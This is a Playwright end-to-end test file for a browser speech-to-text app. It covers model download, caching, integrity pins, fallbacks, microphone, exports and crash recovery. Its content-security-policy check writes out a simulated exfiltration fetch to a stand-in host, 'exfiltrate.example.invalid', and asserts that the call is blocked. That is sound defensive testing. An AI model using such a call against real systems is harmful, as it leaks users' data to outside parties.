// e2e.mjs — end-to-end checks of the browser app in headless Chromium.
//
//   node browser/tests/e2e.mjs            # all checks, against the FAKE engine
//   STT_E2E_ONLY=export node browser/tests/e2e.mjs   # checks whose name matches
//   OUT_DIR=/tmp/shots node browser/tests/e2e.mjs    # where screenshots go
//
// The fake engine (fake-pkg/stt_browser.js, mounted at /pkg/) emits a word per
// 0.5 s of audio, so everything but the model itself is exercised: download,
// Range requests, Cache API, worker protocol, microphone, files, exports, UI.
// Never touches the internet: the model comes from a temp dir on a local server.
//
// Adding checks: call check(name, fn) in the right section; fn receives the
// shared `t` (browser, server, paths, helpers) and throws to fail. Real-model
// checks go in the "real model" section, gated on STT_E2E_MODEL_DIR.

import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { startServer } from './serve.mjs';
import { makeFixtures, stripMimiReference } from './fixtures.mjs';

const OUT_DIR = process.env.OUT_DIR || '/tmp/stt-web-shots';
const ONLY = process.env.STT_E2E_ONLY ? new RegExp(process.env.STT_E2E_ONLY, 'i') : null;
const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
const TIMEOUT_MS = 20_000;

// ------------------------------------------------------------ harness

const checks = [];
/** Registers a named check; `fn(t)` throws to fail. */
function check(name, fn) {
  checks.push({ name, fn });
}

function assert(cond, message) {
  if (!cond) throw new Error(message);
}

async function main() {
  fs.mkdirSync(OUT_DIR, { recursive: true });
  const fx = makeFixtures();
  const server = await startServer({ fake: true, model: fx.model, mounts: { '/model-alt/': fx.alt, '/vendor/': fx.vendor } });
  const baseArgs = [
    '--no-sandbox',
    '--enable-unsafe-webgpu',
    '--disable-background-networking',
    '--disable-component-update',
    '--disable-sync',
    '--no-first-run',
    '--use-fake-device-for-media-stream',
  ];
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: [...baseArgs, '--use-fake-ui-for-media-stream', `--use-file-for-fake-audio-capture=${path.join(fx.dir, 'mic.wav')}`],
  });

  const t = {
    browser,
    server,
    fx,
    baseArgs,
    url: server.url,
    /** A fresh context + page that records console errors and page errors. */
    async open(opts = {}) {
      const context = await (opts.browser || browser).newContext({ acceptDownloads: true, viewport: { width: 1100, height: 1000 }, ...opts.context });
      const page = await context.newPage();
      page.errors = [];
      page.on('console', (m) => m.type() === 'error' && page.errors.push(`console: ${m.text()}`));
      page.on('pageerror', (e) => page.errors.push(`pageerror: ${e.message}`));
      page.on('worker', (w) => w.on('console', (m) => m.type() === 'error' && page.errors.push(`worker: ${m.text()}`)));
      await page.goto(server.url + (opts.query || ''));
      await page.waitForSelector('#model-state');
      return page;
    },
    async waitReady(page, timeout = TIMEOUT_MS) {
      await page.waitForFunction(() => document.getElementById('model-state').dataset.state === 'ready', null, { timeout });
    },
    async clearCache(page) {
      await page.evaluate(() => caches.delete('stt-web-model-v1'));
    },
    modelRequests(prefix = '/model/') {
      return server.log.filter((r) => r.path.startsWith(prefix));
    },
    async wordCount(page) {
      return page.locator('#transcript .w').count();
    },
    async shot(page, name) {
      await page.waitForTimeout(650); // let the new-word highlight and bars settle
      await page.screenshot({ path: path.join(OUT_DIR, `${name}.png`), fullPage: true });
    },
  };

  let failed = 0;
  let ran = 0;
  for (const c of checks) {
    if (ONLY && !ONLY.test(c.name)) continue;
    ran++;
    const started = Date.now();
    try {
      await c.fn(t);
      console.log(`PASS  ${c.name}  (${((Date.now() - started) / 1000).toFixed(1)} s)`);
    } catch (err) {
      failed++;
      console.log(`FAIL  ${c.name}\n      ${String(err.stack || err).split('\n').slice(0, 4).join('\n      ')}`);
    }
  }
  await browser.close();
  await server.close();
  fs.rmSync(fx.dir, { recursive: true, force: true });
  console.log(`\n${ran - failed}/${ran} checks passed; screenshots in ${OUT_DIR}`);
  process.exit(failed ? 1 : 0);
}

// ------------------------------------------------------------ checks: loading
// They share one page (`main`) in order: first visit, download, cache, …

let main_;

check('page loads with no console errors', async (t) => {
  main_ = await t.open();
  await main_.waitForTimeout(300);
  assert(await main_.isVisible('text=stt-web'), 'header missing');
  assert((await main_.textContent('#model-state')).includes('Not downloaded'), 'model should start not downloaded');
  assert((await main_.textContent('#download-size')).includes('MB'), 'download size not shown before download');
  assert(await main_.evaluate(() => self.crossOriginIsolated), 'page should be cross-origin isolated (COOP/COEP)');
  assert(main_.errors.length === 0, `console errors: ${main_.errors.join(' | ')}`);
  await t.shot(main_, '01-first-visit');
});

check('model downloads from /model/ with per-file progress', async (t) => {
  t.server.clearLog();
  t.server.setOptions({ throttleBps: 6e6 }); // ~1 s for the 6 MB LM: progress is visible
  try {
    await main_.click('#load-btn');
    // Mid-download: the LM row shows bytes and a percentage below 100.
    await main_.waitForFunction(() => {
      const row = document.querySelector('#file-list [data-file="model-q4k.gguf"]');
      const m = row && /· (\d+)%/.exec(row.textContent);
      return m && Number(m[1]) >= 20 && Number(m[1]) < 90;
    }, null, { timeout: TIMEOUT_MS, polling: 20 });
    await main_.screenshot({ path: path.join(OUT_DIR, '00-downloading.png'), fullPage: true });
    await t.waitReady(main_);
  } finally {
    t.server.setOptions({ throttleBps: 0 });
  }
  const rows = await main_.$$eval('#file-list .file-row', (els) => els.map((e) => ({ file: e.dataset.file, text: e.textContent })));
  for (const f of ['config.json', 'model-q4k.gguf', t.fx.mimiName, 'tokenizer_en_fr_audio_8000.model']) {
    assert(rows.some((r) => r.file === f), `no progress row for ${f}: ${JSON.stringify(rows)}`);
  }
  const lm = rows.find((r) => r.file === 'model-q4k.gguf');
  assert(/MB/.test(lm.text) && /100%/.test(lm.text), `LM row should show bytes and 100%: ${lm.text}`);
  assert(await main_.isVisible('#synthetic-banner'), 'synthetic model banner not shown');
  assert(await main_.isVisible('#backend-pill'), 'backend not shown');
  const mimi = t.modelRequests().filter((r) => r.path.endsWith(t.fx.mimiName));
  assert(mimi.length >= 3 && mimi.every((r) => r.status === 206), `Mimi should come by Range (206): ${JSON.stringify(mimi)}`);
  assert(main_.errors.length === 0, `console errors: ${main_.errors.join(' | ')}`);
  assert(!(await main_.isDisabled('#record-btn')), 'Record should be enabled once ready');
});

check('Mimi encoder-only download fetches less and matches a reference strip', async (t) => {
  const file = fs.readFileSync(path.join(t.fx.model, t.fx.mimiName));
  const res = await main_.evaluate(async (name) => {
    const { fetchMimiEncoder } = await import('/model-store.js');
    const r = await fetchMimiEncoder(new URL(`/model/${name}`, location.href).href);
    return { bytes: Array.from(r.bytes), fetchedBytes: r.fetchedBytes, fileBytes: r.fileBytes, ranged: r.ranged };
  }, t.fx.mimiName);
  assert(res.ranged && res.fileBytes === file.length, `expected a ranged fetch of a ${file.length}-byte file: ${res.fileBytes}`);
  assert(res.fetchedBytes < file.length * 0.7, `fetched ${res.fetchedBytes} of ${file.length} bytes`);
  const expected = stripMimiReference(file);
  assert(Buffer.from(res.bytes).equals(expected), 'rebuilt safetensors differs from the reference strip');
});

check('second visit loads from the cache with zero model requests', async (t) => {
  t.server.clearLog();
  await main_.reload();
  await t.waitReady(main_); // auto-loads: the model is on the device
  const reqs = t.modelRequests();
  assert(reqs.length === 0, `model requests on second visit: ${reqs.map((r) => r.path).join(', ')}`);
  assert((await main_.textContent('#file-list')).includes('from this device'), 'progress should say "from this device"');
});

check('corrupted cache entry is detected and re-fetched', async (t) => {
  await main_.evaluate(async () => {
    const cache = await caches.open('stt-web-model-v1');
    const key = new URL('/model/model-q4k.gguf', location.href).href;
    const old = await cache.match(key);
    const length = old.headers.get('x-stt-length');
    await cache.put(key, new Response(new Uint8Array(1000), { headers: { 'x-stt-length': length } }));
  });
  t.server.clearLog();
  await main_.reload();
  await t.waitReady(main_);
  const reqs = t.modelRequests().map((r) => `${r.path} ${r.status}`);
  assert(reqs.length === 1 && reqs[0] === '/model/model-q4k.gguf 200', `expected only the LM re-fetched: ${reqs.join(', ')}`);
});

check('pinned manifest: matching files load, a changed file is refused before use and not kept', async (t) => {
  // scripts/pin-models.mjs pins this server's model (as it pins the Hub's);
  // not execFileSync: this process is the server it downloads from.
  const script = path.join(path.dirname(new URL(import.meta.url).pathname), '../../scripts/pin-models.mjs');
  const pinned = await new Promise((resolve, reject) => {
    execFile('node', [script, '--base', `${t.url}model/`, '--lm', 'model-q4k.gguf'], { maxBuffer: 1 << 20 },
      (err, stdout, stderr) => (err ? reject(new Error(`${err.message}\n${stderr}`)) : resolve(stdout)));
  });
  const manifest = JSON.parse(pinned);
  assert(manifest.files.length === 4 && manifest.files.some((f) => f.part === 'encoder'), `pinned: ${pinned.slice(0, 300)}`);
  const write = (m) => fs.writeFileSync(path.join(t.fx.vendor, 'models.json'), JSON.stringify(m));
  try {
    write(manifest);
    const page = await t.open();
    await page.click('#load-btn');
    await t.waitReady(page);
    await page.context().close();
    // The LM's pin no longer matches (as if the file changed upstream).
    const lm = manifest.files.find((f) => f.url.endsWith('model-q4k.gguf'));
    write({ ...manifest, files: manifest.files.map((f) => (f === lm ? { ...f, sha256: '0'.repeat(64) } : f)) });
    const bad = await t.open();
    await bad.click('#load-btn');
    const banner = bad.locator('.banner', { hasText: 'does not match' });
    await banner.waitFor({ timeout: TIMEOUT_MS });
    const text = await banner.textContent();
    assert(/model-q4k\.gguf/.test(text), `the error should name the file: ${text}`);
    await t.shot(bad, '10-model-mismatch');
    const kept = await bad.evaluate(async (url) => !!(await (await caches.open('stt-web-model-v1')).match(url)), lm.url);
    assert(!kept, 'the refused file was kept in the cache');
    assert((await bad.getAttribute('#model-state', 'data-state')) !== 'ready', 'the model loaded anyway');
    await bad.context().close();
  } finally {
    fs.rmSync(path.join(t.fx.vendor, 'models.json'), { force: true });
  }
});

check('server without Range support still loads the Mimi file', async (t) => {
  await t.clearCache(main_);
  t.server.setOptions({ range: false });
  t.server.clearLog();
  try {
    await main_.reload();
    await main_.click('#load-btn');
    await t.waitReady(main_);
  } finally {
    t.server.setOptions({ range: true });
  }
  const mimi = t.modelRequests().filter((r) => r.path.endsWith(t.fx.mimiName));
  assert(mimi.length === 1 && mimi[0].status === 200, `expected one full Mimi download: ${JSON.stringify(mimi)}`);
});

check('a 404 model URL shows a plain-language error with a working retry', async (t) => {
  await t.clearCache(main_);
  const lms = ['model-q4k.gguf', 'model-q80.gguf', 'model-q40.gguf', 'model.safetensors'].map((f) => `/model/${f}`);
  t.server.setOptions({ notFound: lms });
  try {
    await main_.reload();
    await main_.click('#load-btn');
    const banner = main_.locator('.banner-error', { hasText: 'Download failed' });
    await banner.waitFor({ timeout: TIMEOUT_MS });
    const text = await banner.textContent();
    assert(/check your connection/i.test(text) && /404/.test(text), `error text: ${text}`);
    assert(await banner.locator('button[data-action="load"]').isVisible(), 'no Retry button');
    await t.shot(main_, '05-download-error');
  } finally {
    t.server.setOptions({ notFound: [] });
  }
  await main_.locator('.banner-error button[data-action="load"]').click();
  await t.waitReady(main_);
  assert((await main_.locator('.banner-error').count()) === 0, 'error banner should be gone after a successful retry');
});

check('custom base: LM and tokenizer fallbacks, and WebGPU failure falls back to CPU', async (t) => {
  t.server.clearLog();
  const page = await t.open({ query: '?model=/model-alt/&temperature=0.25' });
  await page.click('#load-btn');
  await t.waitReady(page);
  const lm = t.modelRequests('/model-alt/').filter((r) => /^model[-.]/.test(path.basename(r.path))).map((r) => `${path.basename(r.path)} ${r.status}`);
  assert(lm.join(', ') === 'model-q4k.gguf 404, model-q80.gguf 404, model-q40.gguf 200', `LM fallback order: ${lm.join(', ')}`);
  const tok = t.modelRequests('/model-alt/').filter((r) => r.path.includes('tokenizer')).map((r) => `${path.extname(r.path)} ${r.status}`);
  assert(tok.join(', ') === '.model 404, .json 200', `tokenizer fallback: ${tok.join(', ')}`);
  assert((await page.textContent('#backend-text')).startsWith('CPU'), 'backend should be CPU after the fallback');
  const notice = await page.locator('.banner', { hasText: 'slower than real time' }).count();
  assert(notice === 1, 'no "may be slower than real time" notice');
  assert(await page.evaluate(() => JSON.parse(localStorage.getItem('stt-web.settings')).baseUrl === '/model-alt/'), '?model= not remembered');
  assert(await page.evaluate(() => JSON.parse(localStorage.getItem('stt-web.settings')).temperature === 0.25), '?temperature= not remembered');
  assert((await page.inputValue('#temperature')) === '0.25', 'the Decoding setting should show temperature 0.25');
  const summary = await page.textContent('#model-summary');
  assert(/Q4_0 is loaded \(Q4_K is not at this model location\)/.test(summary), `model card should name the LM actually loaded: ${summary}`);
  await t.shot(page, '06-cpu-fallback');
  await page.context().close();
});

check('content security policy: other origins are refused, by the page and by its worker', async (t) => {
  const page = await t.open({ query: '?model=https://models.example.invalid/stt/' });
  const foreign = [];
  page.context().on('request', (r) => { if (!r.url().startsWith(t.url)) foreign.push(r.url()); });
  await page.click('#load-btn');
  const banner = page.locator('.banner-error', { hasText: 'That model location is not allowed' });
  await banner.waitFor({ timeout: TIMEOUT_MS });
  assert(/models\.example\.invalid/.test(await banner.textContent()), 'the error should name the refused origin');
  // What a script injected into the page or the worker would try: blocked
  // by the policy before any connection (a violation is reported).
  const tryFetch = async () => {
    let blocked = null;
    self.addEventListener('securitypolicyviolation', (e) => { blocked = e.blockedURI; });
    const outcome = await fetch('https://exfiltrate.example.invalid/words').then(() => 'sent', () => 'failed');
    await new Promise((r) => setTimeout(r, 100));
    return { outcome, blocked };
  };
  const inPage = await page.evaluate(tryFetch);
  assert(inPage.outcome === 'failed' && /exfiltrate\.example\.invalid/.test(inPage.blocked || ''), `page fetch: ${JSON.stringify(inPage)}`);
  const worker = page.workers()[0];
  assert(worker, 'the engine worker should be running');
  const inWorker = await worker.evaluate(tryFetch);
  assert(inWorker.outcome === 'failed' && /exfiltrate\.example\.invalid/.test(inWorker.blocked || ''), `worker fetch: ${JSON.stringify(inWorker)}`);
  assert(foreign.length === 0, `requests left the page's origin: ${foreign.join(', ')}`);
  await page.context().close();
});

// ------------------------------------------------------------ checks: transcription

check('file upload produces words, end-of-turn marks and a progress bar', async (t) => {
  await main_.setInputFiles('#file-input', path.join(t.fx.dir, 'speech.wav'));
  await main_.waitForFunction(() => document.getElementById('file-job-pct').textContent === 'Done', null, { timeout: TIMEOUT_MS });
  const words = await t.wordCount(main_);
  assert(words === 20, `expected 20 words for 10 s of audio, got ${words}`);
  assert((await main_.locator('#transcript .eot').count()) === 2, 'expected 2 end-of-turn marks');
  const title = await main_.locator('#transcript .w').first().getAttribute('title');
  assert(/0:00\.0 – 0:00\.4/.test(title), `word timestamp tooltip: ${title}`);
  assert((await main_.locator('#transcript .partial').count()) === 0, 'partial left after the file finished');
  assert((await main_.textContent('#stats-text')).includes('RTF'), 'no real-time factor shown');
});

check('exports download TXT/SRT/VTT/JSON and Copy copies', async (t) => {
  await main_.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: t.url });
  const expect = {
    txt: (s) => s.startsWith('alpha bravo'),
    srt: (s) => s.startsWith('1\n00:00:00,000 --> '),
    vtt: (s) => s.startsWith('WEBVTT\n'),
    json: (s) => JSON.parse(s).words.length === 20,
  };
  for (const fmt of Object.keys(expect)) {
    await main_.click('#export-btn');
    const [download] = await Promise.all([main_.waitForEvent('download'), main_.click(`[data-export="${fmt}"]`)]);
    assert(download.suggestedFilename().endsWith(`.${fmt}`), `file name ${download.suggestedFilename()}`);
    const text = fs.readFileSync(await download.path(), 'utf8');
    const fromWorker = await main_.evaluate((f) => window.sttClient.export(f), fmt);
    assert(text === fromWorker, `${fmt}: download differs from the worker's export`);
    assert(expect[fmt](text), `${fmt} content looks wrong: ${text.slice(0, 80)}`);
  }
  await main_.click('#copy-btn');
  // The export downloads left a "Saved …" toast up: wait for the copy's own.
  await main_.waitForFunction(() => /Copied|Could not copy/.test(document.getElementById('toast').textContent), null, { timeout: TIMEOUT_MS });
  const clip = await main_.evaluate(() => navigator.clipboard.readText());
  assert(clip.startsWith('alpha bravo'), `clipboard: ${clip.slice(0, 40)}`);
  await main_.click('label.toggle');
  await main_.locator('#transcript .w').nth(3).hover();
  await main_.waitForTimeout(200);
  await t.shot(main_, '03-file-done-timeline');
  await main_.click('label.toggle');
});

check('a non-audio file shows its error and the page keeps working', async (t) => {
  await main_.setInputFiles('#file-input', path.join(t.fx.dir, 'notes.txt'));
  const banner = main_.locator('.banner', { hasText: 'Could not read that file' });
  await banner.waitFor({ timeout: TIMEOUT_MS });
  assert(/notes\.txt/.test(await banner.textContent()), 'error should name the file');
  await t.shot(main_, '07-bad-audio');
  await main_.setInputFiles('#file-input', path.join(t.fx.dir, 'speech.wav'));
  await main_.waitForFunction(() => document.querySelectorAll('#transcript .w').length === 20, null, { timeout: TIMEOUT_MS });
});

check('microphone (fake capture) produces words and Stop flushes the last ones', async (t) => {
  await main_.evaluate(() => {
    window.__stats = null;
    window.sttClient.addEventListener('stats', (e) => (window.__stats = e.detail));
  });
  await main_.click('#record-btn');
  await main_.waitForFunction(() => document.querySelector('#record-btn').getAttribute('aria-pressed') === 'true', null, { timeout: TIMEOUT_MS });
  await main_.waitForFunction(() => document.querySelectorAll('#transcript .w').length >= 5, null, { timeout: TIMEOUT_MS });
  await main_.waitForSelector('#transcript .partial', { timeout: TIMEOUT_MS });
  await t.shot(main_, '02-recording-live');
  await main_.click('#record-btn'); // Stop
  await main_.waitForFunction(() => document.querySelector('#record-btn').getAttribute('aria-pressed') === 'false' && !document.querySelector('#record-btn').hasAttribute('data-busy'), null, { timeout: TIMEOUT_MS });
  const stats = await main_.evaluate(() => window.__stats);
  const words = await t.wordCount(main_);
  // The fake's rule: after a flush every word that started before the end is out.
  const expected = Math.ceil(stats.audio_s / 0.5 - 1e-9);
  assert(words === expected, `after Stop: ${words} words for ${stats.audio_s.toFixed(2)} s of audio, expected ${expected}`);
  assert((await main_.locator('#transcript .partial').count()) === 0, 'partial word left after Stop');
  assert(main_.errors.length === 0, `console errors: ${main_.errors.join(' | ')}`);
  await t.shot(main_, '04-recording-stopped');
});

check('Stop pressed twice (a double click, and two stop() calls) stops once and keeps every word', async (t) => {
  const recordingIs = (v) => main_.waitForFunction((want) => {
    const b = document.querySelector('#record-btn');
    return b.getAttribute('aria-pressed') === want && !b.hasAttribute('data-busy');
  }, v, { timeout: TIMEOUT_MS });
  await main_.click('#record-btn');
  await recordingIs('true');
  await main_.waitForFunction(() => document.querySelectorAll('#transcript .w').length >= 3, null, { timeout: TIMEOUT_MS });
  // The second click of a double click lands while Stop is flushing (the
  // button is busy) or, with a fast engine, just after: neither records again.
  await main_.dblclick('#record-btn');
  await recordingIs('false');
  await main_.waitForTimeout(600); // a second click that started recording again would show by now
  assert((await main_.getAttribute('#record-btn', 'aria-pressed')) === 'false', 'the double click started a new recording');
  await main_.click('#record-btn');
  await recordingIs('true');
  await main_.waitForFunction(() => document.querySelectorAll('#transcript .w').length >= 3, null, { timeout: TIMEOUT_MS });
  const first = Date.now();
  await main_.click('#record-btn');
  await recordingIs('false');
  await main_.click('#record-btn');
  const gap = Date.now() - first;
  await main_.waitForTimeout(600);
  assert(gap < 500, `the fake engine's Stop took ${gap} ms: too slow to test a second press within a double click`);
  assert((await main_.getAttribute('#record-btn', 'aria-pressed')) === 'false', `a second press ${gap} ms after Stop started a new recording`);
  const shown = await main_.evaluate(() => [...document.querySelectorAll('#transcript .w')].map((w) => w.textContent));
  const exported = JSON.parse(await main_.evaluate(() => window.sttClient.export('json'))).words.map((w) => w.text);
  assert(shown.length >= 3 && JSON.stringify(shown) === JSON.stringify(exported), `shown ${shown.length} words, exported ${exported.length}`);
  // Through the API: both calls resolve, the second adds nothing.
  const again = await main_.evaluate(async () => {
    await Promise.all([window.sttClient.stop(), window.sttClient.stop()]);
    return JSON.parse(await window.sttClient.export('json')).words.length;
  });
  assert(again === exported.length, `two more stop() calls changed the transcript: ${again} words`);
  assert(main_.errors.length === 0, `console errors: ${main_.errors.join(' | ')}`);
});

check('an engine crash restarts the worker, reloads the model and keeps the transcript', async (t) => {
  // The fake engine traps (a WebAssembly.RuntimeError, as a Rust panic does)
  // one second into a file named crash*.
  const crash = path.join(t.fx.dir, 'crash-speech.wav');
  fs.copyFileSync(path.join(t.fx.dir, 'speech.wav'), crash);
  const restarted = main_.evaluate(() => new Promise((resolve) => {
    window.sttClient.addEventListener('restarted', () => resolve(true), { once: true });
  }));
  await main_.setInputFiles('#file-input', crash);
  const banner = main_.locator('.banner', { hasText: 'The speech engine stopped unexpectedly' });
  await banner.waitFor({ timeout: TIMEOUT_MS });
  assert(await restarted, 'no restarted event');
  await t.waitReady(main_);
  const shown = await main_.evaluate(() => [...document.querySelectorAll('#transcript .w')].map((w) => w.textContent));
  assert(shown.length >= 1, 'the words before the crash are gone from the page');
  const exported = JSON.parse(await main_.evaluate(() => window.sttClient.export('json')));
  assert(JSON.stringify(exported.words.map((w) => w.text)) === JSON.stringify(shown),
    `export after the restart: ${exported.words.length} words, the page shows ${shown.length}`);
  await t.shot(main_, '09-engine-restarted');
  // The new worker works.
  await main_.setInputFiles('#file-input', path.join(t.fx.dir, 'speech.wav'));
  await main_.waitForFunction(() => document.getElementById('file-job-pct').textContent === 'Done', null, { timeout: TIMEOUT_MS });
  assert((await t.wordCount(main_)) === 20, 'a file after the restart');
  await banner.locator('.close').click();
});

check('microphone permission denied shows its message', async (t) => {
  // A browser without the fake-UI flag: headless denies the permission prompt.
  const denying = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: t.baseArgs });
  try {
    const page = await t.open({ browser: denying });
    await page.click('#load-btn');
    await t.waitReady(page);
    await page.click('#record-btn');
    const banner = page.locator('.banner', { hasText: 'Microphone blocked' });
    await banner.waitFor({ timeout: TIMEOUT_MS });
    assert(await banner.locator('button[data-action="record"]').isVisible(), 'no "Try again" button');
    assert((await page.getAttribute('#record-btn', 'aria-pressed')) === 'false', 'should not be recording');
    await t.shot(page, '08-mic-denied');
  } finally {
    await denying.close();
  }
});

check('dark theme and narrow screen render', async (t) => {
  const page = await t.open({ context: { colorScheme: 'dark', viewport: { width: 1100, height: 1000 } } });
  await page.click('#load-btn');
  await t.waitReady(page);
  await page.setInputFiles('#file-input', path.join(t.fx.dir, 'speech.wav'));
  await page.waitForFunction(() => document.getElementById('file-job-pct').textContent === 'Done', null, { timeout: TIMEOUT_MS });
  await page.click('label.toggle');
  await t.shot(page, '09-dark');
  await page.setViewportSize({ width: 390, height: 844 });
  await t.shot(page, '10-mobile-dark');
  await page.context().close();
});

// ------------------------------------------------------------ checks: real model
// Later: with STT_E2E_MODEL_DIR set (a synthetic or real model directory) and
// the real pkg/ built, mount it instead of --fake and assert on real output.

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
